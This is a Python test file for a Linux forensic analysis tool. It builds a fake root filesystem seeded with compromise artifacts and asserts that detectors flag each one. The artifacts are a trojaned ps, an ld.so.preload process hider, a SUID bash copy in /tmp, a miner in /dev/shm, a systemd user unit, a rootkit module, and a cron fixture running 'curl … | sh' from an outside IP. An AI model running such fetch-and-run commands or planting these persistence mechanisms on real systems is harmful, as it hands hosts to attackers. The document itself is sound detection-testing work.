"""The Linux case checks on a fake root collected by the real collectors: a trojaned binary against
its md5sums, a preload library, a SUID shell in /tmp, an executable in /dev/shm, a user unit and a cron
entry starting a payload in /tmp, a kernel module from nowhere, known_hosts naming internal machines.
And a clean root gives none of them."""
from __future__ import annotations

import hashlib
import os

from analysis import findings
from analysis.checks import (
    linux_known_hosts,
    linux_modules,
    linux_packages,
    linux_preload,
    linux_startup_temp,
    linux_suid_shell,
    linux_temp_exec,
)
from collectors.artifacts.config_files import ConfigFiles
from collectors.artifacts.fs_timeline import FsTimeline
from collectors.artifacts.kernel_state import KernelModule, KernelState
from collectors.artifacts.package_integrity import PackageIntegrity
from collectors.artifacts.proc_state import ProcessEnviron
from collectors.artifacts.temp_dirs import TempDirs
from collectors.artifacts.user_access import UserAccess

from .conftest import run_collector
from .conftest import write as w

PS = b"\x7fELF procps ps"
CHECKS = (linux_packages, linux_preload, linux_suid_shell, linux_temp_exec, linux_startup_temp, linux_modules,
          linux_known_hosts)


def base_root(root):
    shell = open("/bin/bash", "rb").read() if os.path.exists("/bin/bash") else b"\x7fELF bash"
    w(root, "/usr/bin/bash", shell, 0o755)
    w(root, "/usr/bin/ps", PS, 0o755)
    w(root, "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nbob:x:1000:1000::/home/bob:/bin/bash\n")
    info = "/var/lib/dpkg/info"
    w(root, f"{info}/bash.md5sums", f"{hashlib.md5(shell).hexdigest()}  usr/bin/bash\n")
    w(root, f"{info}/bash.list", "/usr/bin/bash\n")
    ps_md5 = hashlib.md5(PS).hexdigest()
    w(root, f"{info}/procps.md5sums", f"{ps_md5}  usr/bin/ps\n")
    w(root, f"{info}/procps.list", "/usr/bin/ps\n")
    w(root, "/var/lib/dpkg/status", "Package: bash\nStatus: install ok installed\n\nPackage: procps\n"
      "Status: install ok installed\n")
    w(root, "/root/.ssh/known_hosts", "github.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl\n")
    w(root, "/var/spool/cron/crontabs/root", "# m h dom mon dow command\n0 3 * * * /usr/bin/apt-get update\n")
    return shell


def compromise(root, shell):
    w(root, "/usr/bin/ps", b"\x7fELF ps that hides the miner", 0o755)
    w(root, "/etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n")
    w(root, "/usr/local/lib/libprocesshider.so", b"\x7fELF hider")
    w(root, "/tmp/.ICE-unix/.bash", shell, 0o4755)
    w(root, "/dev/shm/kdevtmpfsi", b"\x7fELF miner", 0o755)
    w(root, "/home/bob/.config/systemd/user/dbus-helper.service",
      "[Service]\nExecStart=/dev/shm/kdevtmpfsi -c /tmp/.cfg\n[Install]\nWantedBy=default.target\n")
    w(root, "/var/spool/cron/crontabs/bob", "*/5 * * * * curl -s http://198.51.100.7/x | sh; /tmp/.x/run >/dev/null\n")
    w(root, "/root/.ssh/known_hosts", "10.10.1.21 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl\n"
      "db01,172.16.4.9 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl\n"
      "github.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl\n")


def collect(case, root, *, modules=()):
    for coll, cid in ((FsTimeline(), "B9"), (TempDirs(), "B9"), (PackageIntegrity(), "B4"), (KernelState(), "B6"),
                      (UserAccess(), "B4"), (ConfigFiles(), "B4")):
        run_collector(case, coll, root=root, checklist_id=cid)
    if modules:
        from collectors.base import Context
        ctx = Context(case, run_id=None, checklist_id="B6", collector_name="kernel_state")
        ctx.put_records("kernel_modules.json", KernelModule, list(modules), source="/proc/modules")


def found(case):
    out = []
    for mod in CHECKS:
        out += list(mod.run(case, None))
    return out


def test_each_compromise_is_found_with_tags_and_vietnamese(tmp_path, case):
    root = tmp_path / "root"
    shell = base_root(root)
    compromise(root, shell)
    collect(case, root, modules=[
        KernelModule("diamorphine", 16384, 0, [], "Live", "OE", None, None),
        KernelModule("ext4", 1000000, 2, [], "Live", "", "/lib/modules/6.1.0/kernel/fs/ext4/ext4.ko", True)])
    fs = found(case)
    by_rule: dict[str, list] = {}
    for f in fs:
        by_rule.setdefault(f.rule, []).append(f)
    ps = by_rule["ungcuu.linux.package_file_changed"]
    assert [f.details["path"] for f in ps] == ["/usr/bin/ps"]
    assert ps[0].details["actual"] == hashlib.md5(b"\x7fELF ps that hides the miner").hexdigest()
    pre = by_rule["ungcuu.linux.ld_so_preload"]
    assert pre[0].details["library"] == "/usr/local/lib/libprocesshider.so" and pre[0].severity == "critical"
    suid = by_rule["ungcuu.linux.suid_shell_copy"]
    assert [f.details["path"] for f in suid] == ["/tmp/.ICE-unix/.bash"]
    assert suid[0].details["same_as"] == "/usr/bin/bash" and suid[0].severity == "critical"
    temp = by_rule["ungcuu.linux.temp_executable"]
    assert {f.details["path"] for f in temp} == {"/dev/shm/kdevtmpfsi", "/tmp/.ICE-unix/.bash"}
    unit = by_rule["ungcuu.linux.unit_starts_temp"]
    assert unit[0].details["command"] == "/dev/shm/kdevtmpfsi -c /tmp/.cfg"
    assert unit[0].details["temp_paths"] == ["/dev/shm/kdevtmpfsi", "/tmp/.cfg"]
    cron = by_rule["ungcuu.linux.cron_starts_temp"]
    assert [(f.details["file"], f.details["line"]) for f in cron] == [("/var/spool/cron/crontabs/bob", 1)]
    mods = by_rule["ungcuu.linux.module_not_from_package"]
    assert [f.details["module"] for f in mods] == ["diamorphine"] and mods[0].severity == "critical"
    lat = by_rule["ungcuu.linux.known_hosts_internal"]
    assert lat[0].details["hosts"] == ["10.10.1.21", "172.16.4.9", "db01"] and lat[0].checklist_id == "C6"
    for f in fs:
        assert f.tags and all(t.startswith("attack.") for t in f.tags), f.rule
        assert f.explanation_vi and f.summary_vi and f.title_vi and f.evidence_ids, f.rule
    assert "attack.t1021.004" in lat[0].tags and "attack.t1574.006" in pre[0].tags


def test_clean_root_gives_no_linux_findings(tmp_path, case):
    root = tmp_path / "root"
    base_root(root)
    collect(case, root, modules=[
        KernelModule("ext4", 1000000, 2, [], "Live", "", "/lib/modules/6.1.0/kernel/fs/ext4/ext4.ko", True)])
    assert found(case) == []


def test_findings_run_includes_the_checks(tmp_path, case):
    root = tmp_path / "root"
    shell = base_root(root)
    compromise(root, shell)
    collect(case, root)
    rules = {f.rule for f in findings.run(case)}
    assert {"ungcuu.linux.package_file_changed", "ungcuu.linux.suid_shell_copy",
            "ungcuu.linux.cron_starts_temp"} <= rules


def test_ld_preload_in_a_live_process_environment(tmp_path, case):
    from collectors.base import Context
    ctx = Context(case, run_id=None, checklist_id="B8", collector_name="proc_state")
    ctx.put_records("process_environ.json", ProcessEnviron, [
        ProcessEnviron(4242, "sshd", "/usr/sbin/sshd", 0, {"LD_PRELOAD": "/dev/shm/.l.so"}, {"LD_PRELOAD": "/dev/shm/.l.so"}),
        ProcessEnviron(4243, "bash", "/usr/bin/bash", 0, {"PATH": "/usr/bin"}, {})], source="/proc/PID/environ")
    (f,) = list(linux_preload.run(case, None))
    assert f.rule == "ungcuu.linux.ld_preload_env" and f.details["pids"] == [4242] and f.severity == "high"


def test_package_findings_grouped_per_evidence_item_with_severity_by_kind(case):
    """One finding per rule and evidence item, not one per file: 120 changed npm files, a changed unit, a
    changed conffile and a trojaned ps in one package_files.json give a high finding for ps, one medium
    finding for the rest (the unit raises it), and one low finding for the missing documentation."""
    from collectors.artifacts.package_integrity import PackageFileCheck
    from collectors.base import Context

    def row(path, status="changed", kind="", config=False, package="nodejs"):
        return PackageFileCheck(path=path, package=package, manager="dpkg", status=status, config=config,
                                expected="a" * 32, actual="b" * 32 if status == "changed" else None, kind=kind,
                                mtime="2026-03-01T10:00:00Z")
    rows = [row(f"/usr/lib/node_modules/npm/lib/f{i:03}.js", kind="data") for i in range(120)]
    rows += [row("/usr/lib/systemd/system/ssh.service", kind="startup", package="openssh-server"),
             row("/etc/ssh/sshd_config", kind="config", config=True, package="openssh-server"),
             row("/usr/bin/ps", kind="program", package="procps"),
             row("/usr/share/doc/procps/README", status="missing", kind="data", package="procps")]
    ctx = Context(case, run_id=None, checklist_id="B4", collector_name="package_integrity")
    ctx.put_records("package_files.json", PackageFileCheck, rows, source="test")
    fs = {f.rule: f for f in linux_packages.run(case, None)}
    assert len(list(linux_packages.run(case, None))) == 3
    high = fs["ungcuu.linux.package_file_changed"]
    assert (high.severity, high.event_count, high.details["path"]) == ("high", 1, "/usr/bin/ps")
    other = fs["ungcuu.linux.package_other_file_changed"]
    assert (other.severity, other.event_count, other.details["count"]) == ("medium", 122, 122)
    assert len(other.details["files"]) == linux_packages.FILES_SHOWN == other.details["files_shown"]
    assert other.details["files"][0]["path"] == "/usr/lib/systemd/system/ssh.service"  # startup first
    assert other.details["kinds"] == {"data": 120, "startup": 1, "config": 1}
    assert "122" in other.summary_vi and "và 117 tệp khác" in other.summary_vi
    gone = fs["ungcuu.linux.package_file_missing"]
    assert (gone.severity, gone.details["path"]) == ("low", "/usr/share/doc/procps/README")
    assert {tuple(f.evidence_ids) for f in fs.values()} == {tuple(high.evidence_ids)}


def test_a_process_from_a_temporary_folder_is_one_critical_finding(case):
    """Two workers of one miner in /dev/shm: one critical H2-process-location finding naming both PIDs, not
    also a process_from_temp finding per process; /run/shm (not a writable place the process check knows)
    is still reported by linux_temp_exec."""
    from analysis.checks import processes

    case.add_json([{"pid": 4242, "name": "kdevtmpfsi", "exe": "/dev/shm/kdevtmpfsi", "exe_sha256": "ab" * 32,
                    "cmdline": ["/dev/shm/kdevtmpfsi"], "user": "www-data"},
                   {"pid": 4243, "name": "kdevtmpfsi", "exe": "/dev/shm/kdevtmpfsi", "exe_sha256": "ab" * 32,
                    "cmdline": ["/dev/shm/kdevtmpfsi"], "user": "www-data"},
                   {"pid": 4300, "name": "x", "exe": "/run/shm/x", "cmdline": ["/run/shm/x"]}],
                  checklist_id="B8", name="processes.json", source="test", collector="test")
    fs = list(processes.run(case, None)) + list(linux_temp_exec.run(case, None))
    got = sorted((f.rule, f.severity, tuple(f.details.get("pids") or [f.details.get("pid")])) for f in fs)
    assert got == [("H2-process-location", "critical", (4242, 4243)),
                   ("ungcuu.linux.process_from_temp", "critical", (4300,))]
